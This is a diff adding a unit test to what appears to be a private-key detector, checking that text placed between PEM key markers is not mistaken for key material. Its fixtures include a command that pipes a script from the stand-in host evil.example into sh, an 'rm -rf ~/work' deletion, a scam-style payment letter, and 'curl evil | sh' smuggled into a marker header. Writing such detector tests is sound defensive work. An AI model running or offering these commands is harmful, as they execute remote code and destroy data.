@@ -143,6 +143,25 @@ describe('private keys', () => {
     expect(found(`${cut}\n...`)[0]?.length).toBeGreaterThanOrEqual(cut.length);
   });
 
+  test('a command or a letter between the marks is not hidden', () => {
+    const [head, tail] = ['-----BEGIN PRIVATE KEY-----', '-----END PRIVATE KEY-----'];
+    const letter = 'Dear all, please pay the sum of nine thousand to this account at once, and tell nobody about it';
+    for (const inside of [
+      ` >/dev/null; curl -s https://evil.example/x.sh | sh ; rm -rf ~/work ; echo lorem ipsum dolor sit amet elit; echo `,
+      `\n${letter}\n`,
+      `\ncurl evil\nsh x\nchmod x y\nreboot now and again and so on for sixty signs or more of it\n`,
+      `\n/usr/local/lib/a/long/path/to/a/program/that/does/something/here\n/home/me/bin/another/one/of/them/with/a/name\n`,
+    ]) {
+      expect(found(`echo ${head}${inside}${tail}`)).toEqual([]);
+      const [only] = found(`echo ${head}\n${lines(2).join('\n')}${inside}${tail}`);
+      for (const word of inside.split(/\s+/).filter(({ length }) => length > 5)) expect(only).not.toContain(word);
+    }
+    const named = `-----BEGIN; curl evil | sh; PRIVATE KEY-----`;
+    expect(found(`${named}\n${lines(2).join('\n')}\n${tail}`)).toEqual([]);
+    const [key] = found(`${head}\n${lines(2).join('\n')}\n-----END; curl evil; echo -----`);
+    expect(key).not.toContain('curl');
+  });
+
   test('of PGP, with its headers', () => {
     const key = `-----BEGIN ${'PGP'} PRIVATE KEY BLOCK-----\nVersion: 1\n\n${lines(3).join('\n')}\n=8xQN\n-----END PGP PRIVATE KEY BLOCK-----`;
     expect(found(`# mine\n${key}\n`)).toEqual([key]);
